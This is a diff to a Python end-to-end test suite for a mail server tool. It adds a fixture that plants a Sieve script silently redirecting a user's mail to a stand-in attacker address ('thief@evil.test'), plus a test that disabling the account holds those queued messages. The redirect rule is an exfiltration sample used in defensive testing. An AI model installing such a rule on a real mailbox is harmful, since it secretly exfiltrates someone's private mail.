@@ -3,17 +3,21 @@
 from __future__ import annotations
 
 import contextlib
+import email.utils
 import imaplib
 import smtplib
 import socket
 import time
+from collections.abc import Iterator
 from concurrent.futures import ThreadPoolExecutor
 
 import pytest
 
 from tests.e2e.house import House, token, until, unverified
 
-USER, OTHER = "user1@example.test", "admin@example.test"
+USER, OTHER, STRANGER = "user1@example.test", "admin@example.test", "stranger@elsewhere.test"
+HOME = "/vault/mail/example.test/user1"
+REDIRECT = 'require ["copy"]; redirect :copy "thief@evil.test";'
 
 
 def test_an_old_password_behind_the_same_address_stops_nobody(up: House) -> None:
@@ -99,6 +103,37 @@ def test_an_open_session_sends_no_more_and_what_waits_is_held(up: House, command
         up.fab("mailcfg", f"enable {USER}")
         up.fab("mailcfg", f"passwd {USER}", stdin=f"{old}\n")
         up.fab("-H", "mail", "push", "--overwrite")
+
+
+@pytest.fixture
+def redirecting(up: House) -> Iterator[House]:
+    """USER has all their mail sent on, and what is to leave the site waits in the queue."""
+    up.run("mail", f"install -d -m 700 -o vmail -g vmail {HOME}; postconf -e defer_transports=smtp && postfix reload")
+    up.run("mail", f"cat >{HOME}/.dovecot.sieve; chown vmail:vmail {HOME}/.dovecot.sieve", stdin=REDIRECT)
+    try:
+        yield up
+    finally:
+        up.run("mail", f"rm -rf {HOME}/.dovecot.*; postconf -X defer_transports; postsuper -d ALL")
+        up.fab("-H", "mail", "push", "--overwrite")
+
+
+def test_what_a_script_sends_on_is_held(redirecting: House) -> None:
+    """To the mailbox, to a +detail of it, and a bounce, which has no sender: all three are theirs."""
+    head = f"Date: {email.utils.formatdate()}\\nFrom: <mailer-daemon@mx.elsewhere.test>\\n"
+    for sender, to in ((STRANGER, USER), (STRANGER, "user1+x@example.test"), ("", USER)):
+        text = f"{head}To: {to}\\nSubject: hello\\nMessage-ID: <{token()}@elsewhere.test>\\n\\nHello.\\n"
+        redirecting.run("outside", f"printf '{text}' | sendmail -f '{sender}' {to}")
+
+    def waiting() -> list[str]:
+        return [line for line in redirecting.run("mail", "postqueue -j").splitlines() if "thief@evil.test" in line]
+
+    until(lambda: len(waiting()) == 3, 30, "what is sent on")
+    try:
+        said = redirecting.fab("mailcfg", f"disable {USER}").stdout
+        assert "put 3 messages of theirs in the queue on hold" in said
+        assert all('"hold"' in line for line in waiting())
+    finally:
+        redirecting.fab("mailcfg", f"enable {USER}")
 
 
 def test_a_message_to_a_hundred_details_does_not_wait(up: House) -> None:
